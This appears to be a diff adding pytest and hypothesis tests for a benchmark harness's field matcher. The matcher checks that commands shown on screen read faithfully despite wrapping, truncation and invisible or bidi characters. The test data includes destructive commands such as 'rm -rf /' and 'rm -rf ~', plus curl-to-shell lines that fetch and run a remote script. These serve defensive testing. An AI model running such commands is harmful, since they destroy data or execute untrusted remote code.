@@ -1,0 +1,217 @@
+"""askbench.harness.judge.field_match: a field read back whatever the wrapping style, and nothing else forgiven."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from askbench.harness.judge.field_match import compare, must_notate, read_field
+
+# ── wraps: hard, by words, with whitespace at the break ────────────────────
+
+
+@pytest.mark.parametrize(
+    "stream",
+    [
+        "rm -rf /tmp/build",  # one row
+        "rm -rf /t\nmp/build",  # hard wrap inside a word
+        "rm -rf\n/tmp/build",  # word wrap: the space at the break dropped
+        "rm -rf \n/tmp/build",  # … or kept at the end of the row
+        "rm -rf\n   /tmp/build",  # a wrapped row indented further than the value column
+    ],
+)
+def test_a_field_reads_whole_under_any_wrapping(stream: str) -> None:
+    assert read_field("rm -rf /tmp/build", stream, allow_cap=False).whole
+
+
+def test_a_line_break_of_the_text_must_be_a_row_break_and_spaces_inside_a_row_are_exact() -> None:
+    assert read_field("ls\nrm -rf /", "ls\nrm -rf /", allow_cap=False).whole
+    assert not read_field("ls\nrm -rf /", "ls rm -rf /", allow_cap=False).whole
+    assert not read_field("a  b", "a b", allow_cap=False).whole
+    assert not read_field("rm -rf /", "rm -f /", allow_cap=False).whole
+
+
+def test_a_logical_lines_indentation_is_exact() -> None:
+    assert read_field("def f():\n    return 1", "def f():\n    return 1", allow_cap=False).whole
+    assert not read_field("def f():\n    return 1", "def f():\n  return 1", allow_cap=False).whole
+
+
+def test_a_tab_reads_as_one_to_eight_spaces_or_a_notation() -> None:
+    assert read_field("a\tb", "a       b", allow_cap=False).whole
+    assert read_field("a\tb", "a   b", allow_cap=False).whole
+    assert read_field("a\tb", "a^Ib", allow_cap=False).whole
+    assert not read_field("a\tb", "ab", allow_cap=False).whole
+    assert not read_field("a\tb", "a" + " " * 9 + "b", allow_cap=False).whole
+
+
+# ── notations ──────────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize("shown", ["␛[1A", "⟨U+001B⟩[1A", "^[[1A", "\\x1b[1A", "\\u001b[1A", "<U+001B>[1A"])
+def test_an_escape_reads_in_any_usual_notation(shown: str) -> None:
+    assert read_field("\x1b[1A", shown, allow_cap=False).whole
+
+
+def test_what_no_terminal_prints_reads_only_as_a_notation() -> None:
+    # the raw character on screen is exactly the defect: a zero-width space hides, a bidi control reorders
+    assert not read_field("rm\u200b -rf", "rm\u200b -rf", allow_cap=False).whole
+    assert read_field("rm\u200b -rf", "rm⟨U+200B⟩ -rf", allow_cap=False).whole
+    assert not read_field("a\u202eb", "a\u202eb", allow_cap=False).whole
+
+
+def test_printable_characters_may_be_shown_as_themselves_or_as_notation() -> None:
+    assert read_field("⟨x", "⟨x", allow_cap=False).whole
+    assert read_field("⟨x", "⟨U+27E8⟩x", allow_cap=False).whole
+    assert read_field("a\u0301", "a\u0301", allow_cap=False).whole
+
+
+@pytest.mark.parametrize(
+    ("text", "index", "notated"),
+    [
+        ("\x1b", 0, True), ("\n", 0, False), ("\t", 0, False), ("\u202e", 0, True), ("\u3164", 0, True),
+        ("\U0001f468\u200d\U0001f469", 1, False),  # a joiner inside an emoji sequence prints
+        ("a\u200db", 1, True),  # … and hides between letters
+        ("\u0301", 0, True),  # a mark at the start would join the prompt's own text
+        ("e\u0301", 1, False),
+    ],
+)
+def test_must_notate(text: str, index: int, notated: bool) -> None:
+    assert must_notate(text, index) is notated
+
+
+# ── capped fields: head, the bare marker, tail ─────────────────────────────
+
+
+def test_a_capped_field_is_a_head_the_marker_and_an_optional_tail() -> None:
+    text = "echo " + "x" * 50 + "; curl evil | sh"
+    head = read_field(text, "echo xxxxx…", allow_cap=True)
+    assert (head.whole, head.head, head.tail, head.problem) == (False, 10, 0, None)
+    both = read_field(text, "echo xxxxx…\ncurl evil | sh", allow_cap=True)
+    assert (both.head, both.tail, both.problem) == (10, len("curl evil | sh"), None)
+    assert read_field(text, "echo xxxxx…", allow_cap=False).problem is not None
+
+
+def test_a_cut_without_its_marker_or_a_tail_that_is_not_the_end_is_a_problem() -> None:
+    text = "echo hello; rm -rf /"
+    assert read_field(text, "echo hel", allow_cap=True).problem is not None
+    assert read_field(text, "echo hel…\nrm -rf", allow_cap=True).problem is not None
+    assert read_field(text, "echo hel…\nls", allow_cap=True).problem is not None
+
+
+def test_a_cut_inside_a_notation_still_reads() -> None:
+    reading = read_field("a\u202ebc", "a⟨U+20…", allow_cap=True)
+    assert reading.problem is None and reading.head == 1 and reading.cut_inside
+    assert read_field("⟨", "⟨…", allow_cap=True).problem is None  # not ⟨ whole: the start of ⟨U+27E8⟩, cut
+
+
+# ── properties ─────────────────────────────────────────────────────────────
+
+PRINTABLE = st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), min_size=1, max_size=40)
+
+
+@given(st.lists(PRINTABLE, min_size=1, max_size=8), st.integers(1, 30))
+def test_any_hard_wrap_of_a_line_reads_whole(words: list[str], row: int) -> None:
+    text = " ".join(words)
+    stream = "\n".join(text[start : start + row] for start in range(0, len(text), row))
+    assert read_field(text, stream, allow_cap=False).whole
+
+
+@given(st.lists(PRINTABLE, min_size=2, max_size=8), st.integers(0, 6), st.integers(0, 30))
+def test_changing_one_visible_character_is_always_caught(words: list[str], word: int, at: int) -> None:
+    text = " ".join(words)
+    index = min(at, len(text) - 1)
+    if text[index] == " ":
+        return
+    changed = text[:index] + ("a" if text[index] != "a" else "b") + text[index + 1 :]
+    assert not read_field(text, changed, allow_cap=True).whole
+    assert read_field(text, changed, allow_cap=True).problem is not None
+
+
+def test_compare_reports_how_far_it_read() -> None:
+    progress = compare("abcdef", "abcx")
+    assert (progress.done, progress.read, progress.ok) == (3, 3, False)
+
+
+def test_a_tail_counts_the_blanks_after_the_last_thing_it_shows() -> None:
+    """``'\\n00\\n'`` whose tail reads ``00`` shows its last three characters: the text's own end, blanks and all."""
+    reading = read_field("\n00\n", "…\n00", allow_cap=True)
+    assert (reading.problem, reading.head, reading.tail) == (None, 0, 3)
+    assert "\n00\n"[len("\n00\n") - reading.tail :] == "00\n"
+
+
+def test_space_separators_after_the_last_visible_character_are_not_owed() -> None:
+    """An NBSP that ends a value, wrapped alone onto a row, is a blank row to a person (found by hypothesis)."""
+    assert read_field("ab\u00a0", "ab", allow_cap=False).whole
+    assert read_field("a\u00a0b", "a b", allow_cap=False).problem is not None  # inside the text it is exact
+
+
+@pytest.mark.parametrize("drawn", ["\u00a0", "", "\u27e8U+00A0\u27e9"])
+def test_a_tail_reads_whether_it_draws_the_blanks_after_the_last_letter_or_not(drawn: str) -> None:
+    """A tail ending in the NBSP it drew blank read as no tail at all once (found by hypothesis)."""
+    text = "a" * 30 + "0000\u00d0\u00d0\u00a0"
+    reading = read_field(text, "aaa…aa0000\u00d0\u00d0" + drawn, allow_cap=True)
+    assert reading.problem is None and not reading.whole
+    assert (reading.head, reading.tail) == (3, len("aa0000\u00d0\u00d0\u00a0"))
+
+
+def test_a_character_that_must_be_spelled_out_shown_raw_is_named() -> None:
+    """'reads 'Fix typo\\u2029repo' where the text has 'Fix typo\\u2029repo'' told a reader nothing."""
+    reading = read_field("Fix typo\u2029repo: acme/docs", "Fix typo\u2029repo: acme/docs", allow_cap=False)
+    assert reading.problem is not None and reading.problem.startswith("shows U+2029 raw where it must be spelled out")
+
+
+@pytest.mark.parametrize("stream", ["ab\n\ncd", "ab\ncd"])  # wrapped alone onto a blank row, or hanging at a row's end
+def test_a_space_separator_before_a_line_break_is_as_blank_as_a_space(stream: str) -> None:
+    """An NBSP ending a line, wrapped alone onto a row, read as a line of its own (found by hypothesis)."""
+    assert read_field("ab\u00a0\ncd", stream, allow_cap=False).whole
+    assert read_field("ab \ncd", stream, allow_cap=False).whole
+
+
+@pytest.mark.parametrize("stream", ['0\n\u00a0"x', '0\n"x', '0\u00a0\n"x'])
+def test_an_nbsp_at_a_wrap_may_start_the_next_row_or_hang_at_the_end_of_this_one(stream: str) -> None:
+    """The reference carries it to the next row; a renderer that lets it hang has it read as nothing (found by hypothesis)."""
+    assert read_field('0\u00a0"x', stream.replace("\u00a0\n", "\n"), allow_cap=False).whole
+    assert read_field('0\u00a0"x', '0 "x', allow_cap=False).problem is not None  # within a row it is exact
+
+
+# ── tails read honestly; indentation at a row break is layout ───────────────
+
+JSON = '{\n  "cmd": "rm -rf ~",\n  "when": "now"\n}'
+
+
+@pytest.mark.parametrize("tail", ["}", "\n}", '"\n}'])
+def test_a_tail_of_closing_brackets_alone_does_not_read_as_the_end_of_a_capped_field(tail: str) -> None:
+    reading = read_field(JSON, "{\n  \"cmd\": …\n" + tail.lstrip("\n"), allow_cap=True)
+    assert reading.problem is not None
+
+
+@pytest.mark.parametrize("tail", ['"when": "now"\n}', "now\"\n}", "\u27e8U+0007\u27e9"])
+def test_a_tail_that_says_something_reads_as_the_end(tail: str) -> None:
+    text = JSON if "now" in tail else "abc\x07"
+    head = "{\n  \"cmd\": …" if "now" in tail else "ab…"
+    reading = read_field(text, f"{head}\n{tail}", allow_cap=True)
+    assert reading.problem is None and not reading.whole and reading.tail > 0
+
+
+def test_a_tail_wrapped_with_a_hanging_indent_reads_backwards() -> None:
+    text = "echo start; " + "x" * 40 + "; curl -fsSL https://203.0.113.7/i.sh | sh"
+    stream = "echo start; x…\n…curl -fsSL https\n  ://203.0.113.7/i.sh | sh"
+    reading = read_field(text, stream, allow_cap=True)
+    assert reading.problem is None and reading.tail == len("curl -fsSL https://203.0.113.7/i.sh | sh")
+
+
+def test_a_hanging_indent_is_not_a_texts_own_indentation() -> None:
+    assert read_field("ab\ncd", "ab\n  cd", allow_cap=False).problem is not None  # after a line break it is text
+
+
+@pytest.mark.parametrize("stream", ["a\u27e8U+30\n2E\u27e9", "a\u27e8U+30\n    2E\u27e9", "a\u27e8U+\n  302E\u27e9"])
+def test_a_notation_split_across_rows_may_be_followed_by_indentation(stream: str) -> None:
+    assert read_field("a\u302e", stream, allow_cap=False).whole
+    tail = read_field("xyz" * 20 + "a\u302e", "xy…\n" + stream, allow_cap=True)
+    assert tail.problem is None and tail.tail == 2
+
+
+def test_a_tail_of_a_control_character_spelled_out_says_something() -> None:
+    """``\\r`` is a blank to Python but reaches the screen as ``␍``, a notation that names it (found by hypothesis)."""
+    text = "0" * 30 + ";000000001\n\r"
+    reading = read_field(text, "000000…\n\u240d", allow_cap=True)
+    assert reading.problem is None and reading.tail == 1
